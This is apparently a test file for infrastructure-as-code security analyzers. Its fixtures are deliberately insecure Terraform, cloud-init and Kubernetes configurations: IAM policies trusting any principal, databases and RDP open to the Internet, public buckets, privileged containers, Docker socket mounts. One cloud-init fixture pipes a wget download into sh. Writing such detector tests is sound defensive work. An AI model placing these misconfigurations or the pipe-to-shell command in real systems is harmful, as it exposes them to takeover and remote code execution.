// Held-back cases for the infrastructure analyzers: written with the variants (other providers,
// jsonencode vs heredoc vs policy document, Helm vs raw YAML), never used to tune them. They
// record what the analyzers catch today; a miss is written as an expected miss.
import { describe, expect, it } from 'vitest';
import { cloudInitAnalyzer } from '../../../../src/core/analyzers/infrastructure/cloud-init.js';
import { kubernetesAnalyzer } from '../../../../src/core/analyzers/infrastructure/kubernetes.js';
import { terraformAnalyzer } from '../../../../src/core/analyzers/infrastructure/terraform.js';
import type { Analyzer } from '../../../../src/core/rules/types.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

function ids(analyzer: Analyzer, path: string, code: string): string[] {
  return [...new Set(runAnalyzer(analyzer, { path, code }).map((f) => f.ruleId))].sort();
}

const caught: Array<[string, Analyzer, string, string, string]> = [
  [
    'trust policy as a heredoc, AWS "*" principal',
    terraformAnalyzer,
    'iam.tf',
    `resource "aws_iam_role" "ops" {
  name               = "ops"
  assume_role_policy = <<-POLICY
    {
      "Version": "2012-10-17",
      "Statement": [{
        "Effect": "Allow",
        "Principal": { "AWS": "*" },
        "Action": "sts:AssumeRole"
      }]
    }
  POLICY
}
`,
    'iac.iam-trust-any-principal',
  ],
  [
    'trust policy in *.tf.json as a JSON string',
    terraformAnalyzer,
    'main.tf.json',
    `{
  "resource": {
    "aws_iam_role": {
      "ops": {
        "name": "ops",
        "assume_role_policy": "{\\"Version\\":\\"2012-10-17\\",\\"Statement\\":[{\\"Effect\\":\\"Allow\\",\\"Principal\\":\\"*\\",\\"Action\\":\\"sts:AssumeRole\\"}]}"
      }
    }
  }
}
`,
    'iac.iam-trust-any-principal',
  ],
  [
    'admin policy with list-valued Action and Resource in jsonencode',
    terraformAnalyzer,
    'policy.tf',
    `resource "aws_iam_policy" "all" {
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      {
        Effect   = "Allow"
        Action   = ["*"]
        Resource = ["*"]
      },
    ]
  })
}
`,
    'iac.iam-admin-policy',
  ],
  [
    'security group rule resource opening MySQL to the world',
    terraformAnalyzer,
    'sg.tf',
    `resource "aws_security_group_rule" "db" {
  type              = "ingress"
  from_port         = 3306
  to_port           = 3306
  protocol          = "tcp"
  cidr_blocks       = ["0.0.0.0/0"]
  security_group_id = aws_security_group.db.id
}
`,
    'iac.network-open-admin-port',
  ],
  [
    'VPC ingress rule, IPv6, all protocols',
    terraformAnalyzer,
    'sg.tf',
    `resource "aws_vpc_security_group_ingress_rule" "any" {
  security_group_id = aws_security_group.app.id
  cidr_ipv6         = "::/0"
  ip_protocol       = "-1"
}
`,
    'iac.network-open-admin-port',
  ],
  [
    'GCP firewall, Postgres from anywhere',
    terraformAnalyzer,
    'network.tf',
    `resource "google_compute_firewall" "db" {
  name    = "allow-db"
  network = google_compute_network.main.name
  allow {
    protocol = "tcp"
    ports    = ["5432"]
  }
  source_ranges = ["0.0.0.0/0"]
}
`,
    'iac.network-open-admin-port',
  ],
  [
    'Azure NSG rule, RDP from the Internet',
    terraformAnalyzer,
    'nsg.tf',
    `resource "azurerm_network_security_rule" "rdp" {
  name                        = "rdp"
  priority                    = 100
  direction                   = "Inbound"
  access                      = "Allow"
  protocol                    = "Tcp"
  source_port_range           = "*"
  destination_port_range      = "3389"
  source_address_prefix       = "Internet"
  destination_address_prefix  = "*"
}
`,
    'iac.network-open-admin-port',
  ],
  [
    'GCS bucket binding to allAuthenticatedUsers',
    terraformAnalyzer,
    'gcs.tf',
    `resource "google_storage_bucket_iam_binding" "read" {
  bucket  = google_storage_bucket.data.name
  role    = "roles/storage.objectViewer"
  members = ["allAuthenticatedUsers"]
}
`,
    'iac.storage-public',
  ],
  [
    'S3 ACL resource, public-read-write',
    terraformAnalyzer,
    's3.tf',
    `resource "aws_s3_bucket_acl" "data" {
  bucket = aws_s3_bucket.data.id
  acl    = "public-read-write"
}
`,
    'iac.storage-public',
  ],
  [
    'cloud-init in a user_data heredoc that pipes a download to sh',
    cloudInitAnalyzer,
    'vm.tf',
    `resource "aws_instance" "web" {
  ami           = "ami-123"
  instance_type = "t3.micro"
  user_data     = <<-EOT
    #cloud-config
    runcmd:
      - wget -qO- http://203.0.113.9/setup.sh | sh
  EOT
}
`,
    'iac.cloud-init-remote-code',
  ],
  [
    'cloud-config file giving a user passwordless sudo',
    cloudInitAnalyzer,
    'cloud/user-data.yaml',
    `#cloud-config
users:
  - name: deploy
    groups: sudo
    sudo: ['ALL=(ALL) NOPASSWD:ALL']
`,
    'iac.cloud-init-passwordless-sudo',
  ],
  [
    'Helm template with a privileged container behind a condition',
    kubernetesAnalyzer,
    'charts/agent/templates/daemonset.yaml',
    `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: {{ include "agent.fullname" . }}
spec:
  template:
    spec:
      containers:
        - name: agent
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          {{- if .Values.debug }}
          securityContext:
            privileged: true
          {{- end }}
`,
    'iac.k8s-privileged',
  ],
  [
    'CronJob mounting the Docker socket',
    kubernetesAnalyzer,
    'k8s/cleanup.yaml',
    `apiVersion: batch/v1
kind: CronJob
metadata:
  name: cleanup
spec:
  schedule: "0 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: c
              image: docker:24
              volumeMounts:
                - name: sock
                  mountPath: /var/run/docker.sock
          volumes:
            - name: sock
              hostPath:
                path: /var/run/docker.sock
`,
    'iac.k8s-host-path',
  ],
  [
    'cluster-admin binding in the second document',
    kubernetesAnalyzer,
    'deploy/rbac.yml',
    `apiVersion: v1
kind: ServiceAccount
metadata:
  name: runner
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: runner-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: ServiceAccount
    name: runner
    namespace: default
`,
    'iac.k8s-cluster-admin-binding',
  ],
  [
    'ClusterRole with wildcard rules in flow style',
    kubernetesAnalyzer,
    'deploy/role.yaml',
    `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: everything}
rules:
  - {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
`,
    'iac.k8s-rbac-wildcard',
  ],
  [
    'init container adding SYS_ADMIN',
    kubernetesAnalyzer,
    'k8s/app.yaml',
    `apiVersion: v1
kind: Pod
metadata:
  name: app
spec:
  initContainers:
    - name: setup
      image: busybox
      securityContext:
        capabilities:
          add: ["SYS_ADMIN"]
  containers:
    - name: app
      image: app:1
`,
    'iac.k8s-capabilities',
  ],
  [
    'Compose long-syntax bind of the Docker socket',
    kubernetesAnalyzer,
    'compose.yaml',
    `services:
  agent:
    image: agent:1
    volumes:
      - type: bind
        source: /var/run/docker.sock
        target: /var/run/docker.sock
`,
    'iac.compose-host-access',
  ],
];

const quiet: Array<[string, Analyzer, string, string]> = [
  [
    'egress to the world on all ports',
    terraformAnalyzer,
    'sg.tf',
    `resource "aws_security_group" "app" {
  egress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["0.0.0.0/0"]
  }
  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`,
  ],
  [
    'bastion opening 22 to a variable CIDR',
    terraformAnalyzer,
    'bastion.tf',
    `resource "aws_security_group_rule" "ssh" {
  type        = "ingress"
  from_port   = 22
  to_port     = 22
  protocol    = "tcp"
  cidr_blocks = var.allowed_ssh_cidrs
}
`,
  ],
  [
    'trust policy for an AWS service',
    terraformAnalyzer,
    'role.tf',
    `data "aws_iam_policy_document" "assume" {
  statement {
    actions = ["sts:AssumeRole"]
    principals {
      type        = "Service"
      identifiers = ["lambda.amazonaws.com"]
    }
  }
}
`,
  ],
  [
    'pod that drops privileges',
    kubernetesAnalyzer,
    'k8s/web.yaml',
    `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      hostNetwork: false
      containers:
        - name: web
          image: web:1
          securityContext:
            privileged: false
            allowPrivilegeEscalation: false
            runAsUser: 1000
            capabilities:
              drop: ["ALL"]
`,
  ],
  [
    'plain ConfigMap',
    kubernetesAnalyzer,
    'k8s/config.yaml',
    `apiVersion: v1
kind: ConfigMap
metadata:
  name: settings
data:
  LOG_LEVEL: info
`,
  ],
];

describe('held-back infrastructure variants', () => {
  it.each(caught)('catches: %s', (_name, analyzer, path, code, rule) => {
    expect(ids(analyzer, path, code)).toContain(rule);
  });
  it.each(quiet)('stays quiet: %s', (_name, analyzer, path, code) => {
    expect(ids(analyzer, path, code)).toEqual([]);
  });
});
